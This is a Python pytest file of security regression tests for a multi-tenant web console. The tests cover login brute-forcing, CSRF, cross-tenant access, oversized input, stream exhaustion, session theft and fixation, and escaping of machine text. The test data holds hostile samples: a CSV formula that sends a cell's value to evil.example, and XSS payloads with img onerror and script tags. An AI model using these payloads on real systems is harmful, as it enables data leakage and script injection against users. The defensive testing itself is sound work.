"""The console attacked as its users would be: concurrent password guessing and login floods, read-only and
other tenants' accounts and forged requests trying changes (and whether the audit log shows them), oversized or
absurd input, live streams without end, long trends with many buckets, machine text in the CSV export, a
console without provisioning, and copied or planted session cookies.

Each test was a hole when written (it failed), closed in the same change, except two that check defences
which held: copied and planted cookies, and machine text drawn as text (marked ``browser``: Debian's chromium,
as ``tests/test_console_browser.py`` drives it, with its ``served`` console). Requests go through the whole ASGI app (as ``tests/test_console_api.py``), with its
tenants, stores and accounts (its ``fleet`` fixture) where they fit."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
import sqlite3
import threading
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, Literal

import httpx
import pytest
from argon2 import PasswordHasher

from bridge.alerts.model import State
from console.api import MAX_STREAMS_PER_ACCOUNT, create_app
from console.service import Console
from console.tenantdata import Series
from tests.console_fixtures import PASSWORD, FleetWriter, logged_in, make_console, now_ms
from tests.test_console_api import fleet, provisioned
from tests.test_console_browser import served

__all__ = ["fleet", "provisioned", "served"]  # fixtures used here


def _burst(app: Any, attempts: list[tuple[str, str]], name: str = "acme-viewer") -> list[int]:
    """Every ``(client address, password)`` login to ``name`` at once, as concurrent connections would
    (``name`` may hold ``{i}``: the attempt's number)."""

    async def one(i: int, address: str, password: str) -> int:
        transport = httpx.ASGITransport(app=app, client=(address, 40000))
        async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as c:
            answer = await c.post("/api/login", json={"name": name.format(i=i), "password": password})
            return answer.status_code

    async def every() -> list[int]:
        return list(await asyncio.gather(*(one(i, a, p) for i, (a, p) in enumerate(attempts))))

    return asyncio.run(every())


def test_concurrent_guesses_cannot_outrun_the_login_limits(fleet: Console) -> None:
    limit = fleet.settings.login_max_failures
    app = create_app(fleet)
    # From one address, 40 guesses at once: only the per-account limit's worth may reach the password check.
    codes = _burst(app, [("10.1.0.1", f"guess number {i}") for i in range(40)])
    assert codes.count(401) <= limit and codes.count(429) >= 40 - limit, codes
    failed = [e for e in fleet.accounts.audit_log("acme") if e["action"] == "login.failed"]
    assert len(failed) == codes.count(401)
    # Spread over 40 addresses (a botnet): the account's own limit still holds, and the right password is refused.
    codes = _burst(app, [(f"10.2.0.{i}", PASSWORD if i == 39 else f"guess {i}") for i in range(40)])
    assert set(codes) == {429}, codes
    # A correct login counts as no failure: an account with a few typos still gets in.
    typos = [("10.3.0.1", "typo typo typo")] * (limit - 1)
    assert _burst(app, typos, "acme-admin") == [401] * (limit - 1)
    for _ in range(3):
        assert _burst(app, [("10.3.0.1", PASSWORD)], "acme-admin") == [200]
    assert _burst(app, [("10.3.0.1", "one more typo")], "acme-admin") == [401]
    assert _burst(app, [("10.3.0.1", PASSWORD)], "acme-admin") == [429]


PROVISIONING_ROUTES = [
    ("GET", "/keys", None),
    ("POST", "/keys", {"uses": 1}),
    ("POST", "/keys/0123456789/revoke", None),
    ("GET", "/devices", None),
    ("POST", "/gateways/press-gw/revoke", None),
    ("GET", "/technicians", None),
    ("POST", "/technicians", {"name": "alice"}),
    ("POST", "/technicians/alice/revoke", None),
]


def test_provisioning_routes_of_a_tenant_not_provisioned_here_say_so_and_name_no_other_tenant(
    tmp_path: Path, provisioned: Path
) -> None:
    # initech is one of the bridge's tenants, not of this provisioning service (acme and globex).
    data = tmp_path / "prov"
    shutil.copytree(provisioned, data, symlinks=True)
    for where, provisioning in (("with", data), ("without", None)):
        (tmp_path / where).mkdir()
        console = make_console(tmp_path / where, ["acme", "initech"], provisioning=provisioning)
        console.accounts.create("initech-admin", "tenant-admin", PASSWORD, tenant="initech")
        c, token = logged_in(console, "initech-admin")
        for method, path, body in PROVISIONING_ROUTES:
            answer = c.request(method, f"/api/tenants/initech{path}", json=body, headers={"X-CSRF-Token": token})
            assert answer.status_code == 409, (where, method, path, answer.text)
            detail = answer.json()["detail"]
            assert "\n" not in detail and "acme" not in detail and "globex" not in detail, detail
            assert "provisioning" in detail
        log = console.accounts.audit_log("initech")
        assert not any("acme" in str(e) or "globex" in str(e) for e in log)
        console.close()


def test_absurd_trend_and_key_input_is_a_one_line_422(fleet: Console) -> None:
    c, token = logged_in(fleet, "acme-admin")
    series = {"series": "press-gw/press-1/rpm"}
    far = 10**20  # past what SQLite's integers and the calendar hold
    for path in ("/api/tenants/acme/trend", "/api/tenants/acme/trend.csv"):
        for start, end in ((far, far + 1000), (-far, -far + 1000), (0, far), (253402300800000, 253402300801000)):
            answer = c.get(path, params={**series, "start": start, "end": end})
            assert answer.status_code == 422, (path, start, end, answer.text)
            assert "\n" not in answer.json()["detail"]
        assert c.get(path, params={**series, "start": "yesterday"}).status_code == 422
    for buckets in ("0", "-5", "many", "4001", "1e9"):
        answer = c.get("/api/tenants/acme/trend", params={**series, "buckets": buckets})
        assert answer.status_code == 422, (buckets, answer.text)
    unicode = c.get("/api/tenants/acme/trend", params={"series": "préss-gw/прес/温度\x00"})
    assert unicode.status_code == 200 and unicode.json()["series"][0]["points"] == []
    for expires in ("9999999999999d", "99999999999h"):
        answer = c.post("/api/tenants/acme/keys", json={"expires": expires}, headers={"X-CSRF-Token": token})
        assert answer.status_code == 422, (expires, answer.text)
        assert answer.json()["detail"].startswith("expires: ")
    assert fleet.keys("acme") == []


def test_oversized_bodies_are_refused_before_they_are_read(fleet: Console) -> None:
    c, token = logged_in(fleet, "acme-admin")
    big = b'{"name": "acme-admin", "password": "' + b"x" * (4 << 20) + b'"}'
    json_type = {"Content-Type": "application/json"}
    answer = c.post("/api/login", content=big, headers=json_type)
    assert answer.status_code == 413 and answer.json()["detail"].startswith(f"request body is {len(big)} bytes")

    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it arrives
        yield b'{"name": "acme-admin", "password": "'
        for _ in range(64):
            yield b"x" * 65536
        yield b'"}'

    assert c.post("/api/login", content=chunks(), headers=json_type).status_code == 413
    comment = {"gw": "press-gw", "device": "press-1", "rule": "spindle-overtemp", "comment": "x" * (1 << 20)}
    answer = c.post("/api/tenants/acme/alerts/ack", json=comment, headers={"X-CSRF-Token": token})
    assert answer.status_code == 413
    assert fleet.accounts.acks("acme") == []


def test_refused_changes_are_in_the_audit_log_with_who_and_from_where(fleet: Console) -> None:
    acme, token = logged_in(fleet, "acme-admin")
    globex, gtoken = logged_in(fleet, "globex-admin")
    key = fleet.create_key("acme", uses=1, expires_s=3600)["id"]
    # A forged request riding on the admin's session: no token, a wrong one, another site's Origin.
    assert acme.post("/api/tenants/acme/keys", json={"uses": 1}).status_code == 403
    assert acme.post("/api/tenants/acme/keys", json={"uses": 1}, headers={"X-CSRF-Token": "guess"}).status_code == 403
    evil = {"X-CSRF-Token": token, "Origin": "https://evil.example"}
    assert acme.post(f"/api/tenants/acme/keys/{key}/revoke", headers=evil).status_code == 403
    # Another tenant's admin trying acme's routes and acme's key by its id.
    for path in (
        "/api/tenants/acme/keys",
        f"/api/tenants/acme/keys/{key}/revoke",
        "/api/tenants/acme/gateways/x/revoke",
    ):
        assert globex.post(path, json={}, headers={"X-CSRF-Token": gtoken}).status_code == 404
    assert globex.post(f"/api/tenants/globex/keys/{key}/revoke", headers={"X-CSRF-Token": gtoken}).status_code == 404
    assert fleet.keys("acme")[0]["state"] == "active"
    mine = [e for e in fleet.accounts.audit_log("acme") if e["action"].startswith("refused")]
    assert [(e["actor"], e["client"]) for e in mine] == [("acme-admin", "127.0.0.1")] * 3
    assert {e["detail"]["reason"] for e in mine} == {"CSRF token missing or wrong", "cross-origin request"}
    assert {e["target"] for e in mine} == {"POST /api/tenants/acme/keys", f"POST /api/tenants/acme/keys/{key}/revoke"}
    # The globex admin's attempts are in globex's log (and the operators'), never in acme's.
    theirs = [e for e in fleet.accounts.audit_log("globex") if e["action"].startswith(("refused", "key.revoke"))]
    assert len(theirs) == 4 and all(e["actor"] == "globex-admin" for e in theirs)
    assert not any(e["actor"] == "globex-admin" for e in fleet.accounts.audit_log("acme"))


class _CountingHasher(PasswordHasher):
    """Argon2id as in production (less memory, the shared machine), counting the hashes running at once."""

    def __init__(self) -> None:
        super().__init__(time_cost=2, memory_cost=16 * 1024, parallelism=1)
        self.running = 0
        self.most = 0
        self._lock = threading.Lock()

    def verify(self, hash: str | bytes, password: str | bytes) -> Literal[True]:
        with self._lock:
            self.running += 1
            self.most = max(self.most, self.running)
        try:
            return super().verify(hash, password)
        finally:
            with self._lock:
                self.running -= 1


def test_a_flood_of_logins_hashes_only_a_few_passwords_at_a_time(tmp_path: Path) -> None:
    # Argon2id takes 64 MiB and a core for a fifth of a second per hash (argon2-cffi's defaults): forty
    # logins at once from forty addresses, to forty names, must not mean forty hashes at once.
    hasher = _CountingHasher()
    console = make_console(tmp_path, ["acme"], hasher=hasher)
    console.accounts.create("acme-viewer", "viewer", PASSWORD, tenant="acme")
    app = create_app(console)
    codes = _burst(app, [(f"10.4.0.{i}", "a guess at it") for i in range(40)], "acme-viewer")
    codes += _burst(app, [(f"10.5.0.{i}", "a guess at it") for i in range(40)], "nobody-{i}")
    assert codes.count(401) == 5 + 40
    assert hasher.most <= max(2, os.cpu_count() or 2), hasher.most
    assert _burst(app, [("10.6.0.1", PASSWORD)], "acme-viewer") == [429]  # its own limit, reached above
    console.close()


async def _open_stream(app: Any, cookie: bytes, gone: asyncio.Event) -> tuple[int, asyncio.Task[None]]:
    """A live stream held open as a browser's EventSource holds it (raw ASGI: it never ends by itself);
    its answer's status once the headers are sent. Setting ``gone`` disconnects it."""
    status: asyncio.Future[int] = asyncio.get_running_loop().create_future()
    asked = False

    async def receive() -> dict[str, Any]:
        nonlocal asked
        if not asked:
            asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start" and not status.done():
            status.set_result(message["status"])

    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "https",
        "path": "/api/tenants/acme/stream",
        "raw_path": b"/api/tenants/acme/stream",
        "query_string": b"gw=press-gw",
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"cookie", cookie)],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 443),
    }
    task = asyncio.create_task(app(scope, receive, send))
    return await asyncio.wait_for(status, 10), task


def test_one_account_cannot_hold_open_live_streams_without_limit(fleet: Console) -> None:
    app = create_app(fleet, live_interval_s=0.5)

    async def attack() -> None:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://testserver") as c:
            sessions = []
            for _ in range(2):  # two sessions of one account share its limit
                answer = await c.post("/api/login", json={"name": "acme-viewer", "password": PASSWORD})
                sessions.append(f"fe_session={answer.cookies['fe_session']}".encode())
        held: list[tuple[asyncio.Event, asyncio.Task[None]]] = []
        try:
            for i in range(MAX_STREAMS_PER_ACCOUNT):
                gone = asyncio.Event()
                code, task = await _open_stream(app, sessions[i % 2], gone)
                assert code == 200, i
                held.append((gone, task))
            extra = asyncio.Event()
            code, task = await _open_stream(app, sessions[0], extra)
            assert code == 429
            await asyncio.wait_for(task, 5)  # refused: it ends at once
            held[0][0].set()  # a page closed: its stream ends and frees its place
            await asyncio.wait_for(held[0][1], 5)
            code, task = await _open_stream(app, sessions[1], extra)
            assert code == 200
            held[0] = (extra, task)
        finally:
            for gone, _ in held:
                gone.set()
            await asyncio.wait_for(asyncio.gather(*(t for _, t in held)), 10)

    asyncio.run(attack())


def test_many_buckets_over_days_read_the_rollup_not_millions_of_raw_points(tmp_path: Path) -> None:
    # 4,000 buckets (the most allowed) made any range up to 5.5 days read raw points: at 100 ms a series,
    # eight series, 38 million rows per request, which a viewer could send again and again.
    console = make_console(tmp_path, ["acme"])
    console.accounts.create("v", "viewer", PASSWORD, tenant="acme")
    writer = FleetWriter(tmp_path / "storage", "acme")
    start = 1_700_000_000_000 - 1_700_000_000_000 % 60_000
    rows = [("temp", start + i * 10_000, float(i % 97)) for i in range(2 * 8640)]  # two days, every 10 s
    writer.points("gw", "cnc", rows)
    writer.close()
    rollup = console.rollup("acme")
    assert rollup is not None
    rollup.catch_up()
    c, _ = logged_in(console, "v")
    params: dict[str, Any] = {"series": "gw/cnc/temp", "start": start, "end": start + 2 * 86400_000}
    doc = c.get("/api/tenants/acme/trend", params={**params, "buckets": 4000}).json()
    assert doc["source"] == "rollup"
    points = doc["series"][0]["points"]
    assert len(points) <= 2 * 1440 and sum(p[4] for p in points) == len(rows)
    assert min(p[1] for p in points) == 0.0 and max(p[2] for p in points) == 96.0
    # A shift (8 hours) is still drawn from the raw points, to the bucket.
    shift = {**params, "end": start + 8 * 3600_000, "buckets": 4000}
    assert c.get("/api/tenants/acme/trend", params=shift).json()["source"] == "points"
    console.close()


def test_csv_cells_from_machine_text_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
    # A text tag (a barcode, an operator's HMI entry) or a driver's error is whatever the machine says; a
    # spreadsheet opening the export runs a cell that starts with = + - @ as a formula.
    console = make_console(tmp_path, ["acme"])
    console.accounts.create("v", "viewer", PASSWORD, tenant="acme")
    writer = FleetWriter(tmp_path / "storage", "acme")
    start = 1_700_000_000_000
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    writer.points("gw", "hmi", [("-order", start, hostile), ("-order", start + 1, "+1+1"), ("-order", start + 2, -5.5)])
    writer.points("gw", "hmi", [("-order", start + 3, None)], quality="bad", error="@SUM(1)")
    writer.close()
    c, _ = logged_in(console, "v")
    text = c.get("/api/tenants/acme/trend.csv", params={"series": "gw/hmi/-order", "start": start, "end": start + 10})
    rows = list(csv.reader(io.StringIO(text.text)))[1:]
    assert [r[0] for r in rows] == ["gw/hmi/-order"] * 4
    assert [r[3] for r in rows] == ["'" + hostile, "'+1+1", "-5.5", ""]
    assert rows[3][5] == "'@SUM(1)"
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "@") for cell in row), row
    console.close()


def test_a_copied_cookie_dies_with_the_password_change_disable_or_removal_and_a_planted_one_is_never_kept(
    fleet: Console,
) -> None:
    for end in ("password", "disable", "remove"):
        fleet.accounts.create(f"op-{end}", "tenant-admin", PASSWORD, tenant="acme")
        c, _ = logged_in(fleet, f"op-{end}")
        stolen = c.get("/api/session")
        cookie = {"cookie": f"fe_session={stolen.request.headers['cookie'].split('fe_session=')[1].split(';')[0]}"}
        thief = logged_in(fleet, "acme-viewer")[0]  # another browser, with the copied cookie
        assert thief.get("/api/session", headers=cookie).json()["account"]["name"] == f"op-{end}"
        {
            "password": lambda n: fleet.accounts.set_password(n, "another long password"),
            "disable": lambda n: fleet.accounts.set_disabled(n, True),
            "remove": fleet.accounts.remove,
        }[end](f"op-{end}")
        for url in ("/api/tenants/acme/fleet", "/api/tenants/acme/stream", "/api/session"):
            assert thief.get(url, headers=cookie).status_code == 401, (end, url)
        assert thief.get("/tenants/acme", headers=cookie).status_code == 303
    # Session fixation: a cookie planted before login is replaced by a new one, and is no session.
    planted = "planted-by-someone-else-0123456789abcdef"
    c = logged_in(fleet, "acme-viewer")[0]
    answer = c.post(
        "/api/login", json={"name": "acme-admin", "password": PASSWORD}, headers={"cookie": f"fe_session={planted}"}
    )
    assert answer.status_code == 200 and planted not in answer.headers["set-cookie"]
    assert fleet.accounts.session(planted) is None


HOSTILE_GW = "<img src=x id=gw-injected onerror=alert(1)>\"'&amp;"
HOSTILE = "<img src=x id=injected onerror=alert(2)><script>document.body.dataset.pwned=1</script>"


def _shows(text: str) -> Any:
    return lambda driver: text in driver.find_element("id", "content").text


@pytest.mark.browser
@pytest.mark.timeout(300)
def test_names_values_errors_and_messages_from_the_machines_are_shown_as_text_never_as_markup(
    served: tuple[Any, FleetWriter],
) -> None:
    # What arrives over MQTT (gateway, device and tag names, text values, driver errors, alert messages) and
    # what users type (an acknowledgement's comment) is drawn as text on every page: no element is made of it.
    from urllib.parse import quote

    from tests.browser_fixtures import chromium, log_in, type_into, wait_for

    server, writer = served
    device, tag = HOSTILE.replace("injected", "dev-injected"), HOSTILE.replace("injected", "tag-injected")
    writer.status(HOSTILE_GW, "online")
    writer.points(HOSTILE_GW, device, [(tag, now_ms(), HOSTILE)], quality="bad", error=HOSTILE)
    writer.alert(HOSTILE_GW, device, HOSTILE.replace("injected", "rule-injected"), State.FIRING, 99.0)
    no_markup = "return document.querySelectorAll('img, script:not([src]), [id$=injected]').length"
    with chromium() as driver:
        log_in(driver, server.url, "acme-admin", PASSWORD)
        for path, shown in (
            ("/tenants/acme", HOSTILE_GW),
            (f"/tenants/acme/gateways/{quote(HOSTILE_GW, safe='')}", HOSTILE),
            ("/tenants/acme/alerts", HOSTILE_GW),
        ):
            driver.get(server.url + path)
            wait_for(driver, lambda d: d.execute_script("return document.body.dataset.ready"), 30, path)
            wait_for(driver, _shows(shown), 30, f"{path}: the text")
            assert driver.execute_script(no_markup) == 0, path
            assert driver.execute_script("return document.body.dataset.pwned") is None, path
        type_into(driver, '#active tr input[aria-label^="comment"]', HOSTILE)
        wait_for(driver, lambda d: d.find_element("css selector", "#active tr button").click() or True, 10, "ack")
        wait_for(driver, lambda d: "acme-admin: <img" in d.find_element("id", "active").text, 20, "ack shown")
        driver.get(server.url + "/tenants/acme/audit")
        wait_for(driver, lambda d: d.execute_script("return document.body.dataset.ready"), 30, "audit page")
        assert HOSTILE in driver.find_element("id", "content").text
        assert driver.execute_script(no_markup) == 0


def test_a_slowly_read_csv_export_holds_no_read_transaction_on_the_store(tmp_path: Path) -> None:
    # An export read slowly (or a month of points) kept one statement open for its whole length: the
    # bridge's store could not checkpoint its write-ahead log past it, which grew for as long as it lasted
    # (and PostgreSQL's client-side cursor held the whole range in memory).
    console = make_console(tmp_path, ["acme"])
    writer = FleetWriter(tmp_path / "storage", "acme")
    start = 1_700_000_000_000
    writer.points("gw", "cnc", [("temp", start + i * 60_000, float(i)) for i in range(6 * 60)])  # six hours
    export = console.points("acme", Series("gw", "cnc", "temp"), start, start + 6 * 3600_000)
    assert next(export)[1] == 0.0  # a client that has read the first rows, and waits
    writer.points("gw", "cnc", [("temp", start + 7 * 3600_000, 1.0)])  # the bridge goes on writing
    with sqlite3.connect(tmp_path / "storage" / "acme.db", timeout=0.2) as db:
        busy, _, _ = db.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()
    assert busy == 0
    assert [row[1] for row in export] == [float(i) for i in range(1, 6 * 60)]
    writer.close()
    console.close()
